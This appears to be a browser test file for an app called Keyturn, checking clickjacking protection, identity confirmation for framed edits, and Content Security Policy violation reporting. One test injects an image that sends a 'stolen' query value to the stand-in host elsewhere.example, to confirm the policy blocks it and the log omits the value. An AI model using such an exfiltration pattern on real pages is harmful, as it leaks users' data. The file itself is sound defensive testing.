// Keyturn inside another page, and what a browser reports of content that the page's policy refuses.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, hydrated } from '../fixtures/keyturn.ts';
import { choosePassword, LIST, PASSWORD, SECRET, signIn, sql, test } from '../fixtures/own.ts';

const PORTAL_PORT = 4680;

/** Somebody else's page with Keyturn in a frame. */
async function portal(index: number, path: string): Promise<Server & { url: string }> {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Portal</title><iframe title="Keyturn" width="1200" height="800" src="${path}"></iframe>`);
  });
  await new Promise<void>((done) => server.listen(PORTAL_PORT + index, 'localhost', done));
  return Object.assign(server, { url: `http://localhost:${(server.address() as AddressInfo).port}/` });
}

test('no other page may show it in a frame', async ({ page, own, allowErrors }, info) => {
  allowErrors(/frame-ancestors|Framing|NotSameOrigin|foreign request: http:\/\/localhost/);
  await choosePassword(page, own.link);
  await signIn(page, 'admin');
  await expect(page).toHaveURL('/');
  const server = await portal(info.parallelIndex, own.url + LIST);
  await page.goto(server.url);
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
  expect(page.frames()[1].url()).not.toContain(LIST);
  server.close();
});

test.describe('with a page that may', () => {
  test.use({ settings: { KEYTURN_EMBED_ORIGINS: `http://localhost:${PORTAL_PORT},http://localhost:${PORTAL_PORT + 1}` } });

  test('one reads there at once, and each change asks who it is', async ({ page, own, allowErrors }, info) => {
    allowErrors(/403|Blocked autofocusing|foreign request: http:\/\/localhost/);
    await choosePassword(page, own.link);
    await signIn(page, 'admin');
    sql(own, 'UPDATE sessions SET privileged_until_ms = 0');
    // Not in a frame, a change that can be undone asks nothing.
    const change = `/cn-hangzhou/edit-secret/${SECRET}`;
    const server = await portal(info.parallelIndex, own.url + change);
    await page.goto(change);
    await hydrated(page);
    await page.getByRole('dialog').getByLabel('Secret Description').fill('from the page itself');
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('status')).toContainText('is changed');

    await page.goto(server.url);
    const frame = page.frameLocator('iframe');
    const dialog = frame.getByRole('dialog').first();
    await expect(frame.locator('html[data-hydrated]')).toBeAttached();
    await dialog.getByLabel('Secret Description').fill('from a frame');
    await dialog.getByRole('button', { name: 'Save' }).click();
    const confirm = frame.getByRole('dialog', { name: 'Confirm that it is you' });
    await expect(confirm).toBeVisible();
    const [door] = await Promise.all([page.context().waitForEvent('page'), confirm.getByRole('link', { name: 'Sign in' }).click()]);
    await expect(door.getByLabel('Name')).toHaveValue('admin');
    await door.getByLabel('Password').fill(PASSWORD);
    await door.getByRole('button', { name: 'Sign in', exact: true }).click();
    await expect(confirm).toBeHidden();
    await page.goto(`/cn-hangzhou/secrets/${SECRET}`);
    await expect(page.getByRole('main')).toContainText('from a frame');

    // The pages where one signs in and decides who may what are in no frame.
    for (const path of ['/sign-in', '/access', '/approvals']) {
      const answer = await page.request.get(path);
      expect(answer.headers()['content-security-policy'], path).toContain("frame-ancestors 'none'");
    }
    server.close();
  });
});

test('what the policy of the page refuses is reported, and logged without what it may not hold', async ({ page, own, allowErrors }) => {
  allowErrors(/policy violation: img-src|Content Security Policy|foreign request: https:\/\/elsewhere/);
  await choosePassword(page, own.link);
  await signIn(page, 'admin');
  await page.goto(LIST);
  await hydrated(page);
  const [report] = await Promise.all([
    page.waitForResponse((answer) => answer.url().endsWith('/csp-report')),
    page.evaluate(() => {
      const image = document.createElement('img');
      image.src = 'https://elsewhere.example/pixel.png?stolen=what-nobody-may-log';
      document.body.append(image);
    }),
  ]);
  expect(report.status()).toBe(204);
  await expect.poll(() => readFileSync(own.log, 'utf8')).toContain('elsewhere.example/pixel.png');
  expect(readFileSync(own.log, 'utf8')).not.toContain('what-nobody-may-log');
});
